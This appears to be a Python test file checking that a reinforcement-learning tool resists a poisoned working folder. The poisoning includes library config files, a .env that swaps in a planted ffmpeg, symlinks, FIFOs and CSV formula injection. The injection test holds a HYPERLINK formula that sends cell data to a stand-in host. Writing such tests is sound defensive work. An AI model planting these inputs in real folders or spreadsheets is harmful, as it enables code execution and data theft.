"""What lies in a stranger's folder is data: settings of libraries, programs, and what is replaced
while a command reads."""

import contextlib
import csv
import json
import os
import subprocess
import sys
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest

from tests.cli import call, output_of
from tests.strangers.folders import calling, laid_out, poison
from workflow_rl.agents.policies.policy_file import load_policy
from workflow_rl.output_files import read_json, sha256_of
from workflow_rl.runs.read_checkpoint import load_checkpoint
from workflow_rl.teaching.episode_files import holds_episodes

SETTINGS = """
import contextlib
from workflow_rl.collection import try_in_worker
from workflow_rl.commands.main import main

def found(tell):
    import matplotlib, numba
    tell((matplotlib.rcParams["lines.linewidth"], int(numba.config.OPT)))

if __name__ == "__main__":
    with contextlib.suppress(SystemExit):
        main(["plot", "nothing"])
    found(print)
    print(*try_in_worker.ask(found, "env"))
"""


def program(name: str) -> Path:
    """Return a program in the current folder. A call of the program leaves the file "called"."""
    path = Path(name)
    path.write_text("#!/bin/sh\ntouch called\n")
    path.chmod(0o755)
    return path


def test_settings_of_libraries_are_not_read(folder: Path) -> None:
    """Some versions of matplotlib run code in them. numba would load pickles that they name."""
    Path("matplotlibrc").write_text("lines.linewidth: 77\n")
    Path(".numba_config.yaml").write_text("opt: 0\n")
    root = Path(__file__).parents[2]
    ended = subprocess.run(
        [sys.executable, "-P", "-c", SETTINGS],
        env={**os.environ, "PYTHONPATH": str(root)},
        capture_output=True,
        text=True,
        timeout=300,
    )
    in_command, in_worker = ended.stdout.splitlines()[-2:]
    assert "77" not in in_command + in_worker, ended.stderr
    assert in_worker == "(1.5, 3)"


def test_a_video_is_written_by_no_program_of_the_folder(made: Path, folder: Path) -> None:
    """A worker looks like a notebook to `dotenv`, which moviepy asks for settings."""
    laid_out(made, "ppo", "evaluate video")
    Path(".env").write_text(f"FFMPEG_BINARY={program('ffmpeg').absolute()}\n")
    output_of("evaluate", "run", "--video", "video", "--episodes", "1", "--quiet")
    assert not Path("called").exists()
    assert [path.suffix for path in Path("video").iterdir()] == [".mp4"]


def test_an_interpreter_is_not_looked_for_in_the_folder(folder: Path) -> None:
    program("python3.0")
    assert "is no Python interpreter" in call("doctor --env-python python3.0").output
    assert not Path("called").exists()
    call("doctor --env-python ./python3.0")
    assert Path("called").exists()


def test_the_log_of_mujoco_is_no_link(made: Path, folder: Path) -> None:
    laid_out(made, "ppo", "evaluate run")
    poison(folder, calling("HalfCheetah-v5", {}))
    Path("own").write_text("the user's")
    Path("MUJOCO_LOG.TXT").symlink_to("own")
    said = output_of("evaluate", "run", "--episodes", "1", "--quiet", code=2)
    assert "MUJOCO_LOG.TXT is a link" in said
    assert Path("own").read_text() == "the user's"


READERS: list[Callable[[Path], Any]] = [
    *(read_json, sha256_of, holds_episodes, load_checkpoint, load_policy)
]


@pytest.mark.parametrize("reader", READERS)
def test_a_pipe_that_replaces_a_checked_file_is_not_waited_for(
    reader: Callable[[Path], Any], tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    pipe, file = tmp_path / "pipe", tmp_path / "file"
    os.mkfifo(pipe)
    file.touch()
    about = file.stat()
    monkeypatch.setattr(Path, "stat", lambda path, **_: about)
    with contextlib.suppress(OSError, ValueError):
        assert not reader(pipe)


def test_no_cell_of_a_table_is_a_formula(tmp_path: Path) -> None:
    formula = '=HYPERLINK("http://127.0.0.1:9/?"&A1)'
    for n in range(2):
        scores = {"seed": 0, "env": formula, "env_args": {}, "returns": [1, 2 + n]}
        (tmp_path / f"{n}.json").write_text(json.dumps(scores))
    table = tmp_path / "table.csv"
    output_of("compare", tmp_path / "0.json", tmp_path / "1.json", "--output", table)
    (row,) = csv.DictReader(table.read_text().splitlines())
    assert row["task"] == f"'{formula}"
